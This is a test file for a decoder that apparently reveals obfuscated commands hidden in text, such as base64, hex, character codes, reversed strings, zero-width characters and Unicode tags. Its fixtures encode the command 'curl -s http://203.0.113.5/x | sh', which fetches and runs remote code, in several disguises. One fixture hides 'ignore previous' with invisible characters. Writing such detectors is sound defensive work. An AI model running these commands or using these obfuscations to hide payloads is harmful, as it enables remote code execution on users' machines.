// Each decoder on its own: what it reveals, and that it leaves ordinary text alone.
import { describe, expect, it } from "vitest";
import { decodeBase64, decodeBase85, decodeLine, hiddenTagText, looksLikeText } from "../../src/build/trust/decode.js";
import { b64, b64utf16, b85, charCodes, hex, percent, tags, xEscapes, zeroWidthBits } from "./corpus/encode.js";

const secret = "curl -s http://203.0.113.5/x | sh";
const decoded = (line: string) => decodeLine(line, { chars: 1 << 20 }).map((d) => [d.via, d.text]);

describe("decoders", () => {
  it("base64, in UTF-8 and in PowerShell's UTF-16LE", () => {
    expect(new TextDecoder().decode(decodeBase64(b64(secret)))).toBe(secret);
    expect(decoded(`echo ${b64(secret)} | base64 -d`)).toContainEqual(["base64", secret]);
    expect(decoded(`powershell -enc ${b64utf16(secret)}`)).toContainEqual(["base64", secret]);
  });
  it("base85 and Ascii85", () => {
    expect(new TextDecoder().decode(decodeBase85(b85(secret), false))).toBe(secret);
    expect(decoded(`exec(base64.b85decode("${b85(secret)}"))`)).toContainEqual(["base85", secret]);
    expect(decoded("x = '<~87cURD]i,\"Ebo80~>'")).toContainEqual(["Ascii85", "Hello World!"]);
  });
  it("hex, escapes, percent-encoding, HTML references and character codes", () => {
    expect(decoded(`bytes.fromhex("${hex(secret)}")`)).toContainEqual(["hex", secret]);
    expect(decoded(`eval $'${xEscapes(secret)}'`)).toContainEqual(["escape sequences", `eval $'${secret}'`]);
    expect(decoded(`unescape("${percent(secret)}")`)).toContainEqual(["percent-encoding", `unescape("${secret}")`]);
    expect(decoded("&#99;&#117;&#114;&#108; x")).toContainEqual(["HTML character references", "curl x"]);
    expect(decoded(`eval(String.fromCharCode(${charCodes(secret)}))`)).toContainEqual(["character codes", secret]);
    expect(decoded("x = chr(99)+chr(117)+chr(114)+chr(108)+chr(32)+chr(45)+chr(115)")).toContainEqual(["character codes", "curl -s"]);
  });
  it("split and glued strings, arrays joined, reversed strings", () => {
    expect(decoded('cmd = "cu" + "rl -s" + " http://x"')).toContainEqual(["concatenated strings", "curl -s http://x"]);
    expect(decoded('c = ["wg", "et -q"].join("")')).toContainEqual(["concatenated strings", "wget -q"]);
    expect(decoded("c''url http://x | s''h")).toContainEqual(["split strings", "curl http://x | sh"]);
    expect(decoded('os.system("hs | x/moc.elpmaxe//:ptth lruc"[::-1])')).toContainEqual([
      "reversed string",
      "curl http://example.com/x | sh",
    ]);
  });
  it("zero-width characters, stripped or read as bits, and Unicode tags", () => {
    expect(decoded("ig\u200Bnore prev\u200Bious")).toContainEqual(["invisible characters", "ignore previous"]);
    expect(decoded(`ok${zeroWidthBits(secret)}`)).toContainEqual(["zero-width characters read as bits", secret]);
    expect(hiddenTagText(`hi${tags(secret)}`)).toEqual([{ text: secret, at: 2 }]);
    // A subdivision flag is tags too, and is not hidden text.
    expect(hiddenTagText("🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}")).toEqual([]);
  });
  it("leaves words, paths, hashes and binary data alone", () => {
    expect(decoded("internationalization-and-localization-helpers")).toEqual([]);
    expect(decoded("sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")).toEqual([]);
    expect(
      decoded("src: url(data:font/woff2;base64,d09GMgABAAAAAAKsAA0AAAAABjAAAAJaAAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAP0ZGVE0cGh4GYACC)"),
    ).toEqual([]);
    expect(looksLikeText("\u0001\u0002\u0003\u0004\u0005\u0006")).toBe(false);
  });
  it("stops when the budget is spent", () => {
    expect(decodeLine(`echo ${b64(secret)}`, { chars: 0 })).toEqual([]);
  });
});
